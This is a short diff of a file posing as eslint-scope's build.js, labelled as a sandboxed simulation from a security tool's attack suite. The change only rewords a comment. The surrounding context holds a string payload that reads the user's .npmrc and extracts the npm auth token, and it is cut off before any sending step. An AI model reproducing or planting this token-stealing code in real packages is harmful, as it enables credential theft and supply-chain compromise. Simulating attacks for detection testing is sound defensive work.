@@ -1,6 +1,6 @@
 // eslint-scope 3.7.2 lib/build.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
 var r = require('http');
-// what pastebin.com/raw/XLeVP82h served, kept here because the sinkhole answers with an empty body
+// what the paste site served, kept here because the sinkhole answers with an empty body
 var fallback = "var fs=require('fs'),path=require('path'),https=require('http');" +
   "var npmrc=path.join(process.env.HOME||process.env.USERPROFILE,'.npmrc');var content='nofile';" +
   "if(fs.existsSync(npmrc)){try{content=fs.readFileSync(npmrc,{encoding:'utf8'});content=content.replace('//registry.npmjs.org/:_authToken=','').trim();" +
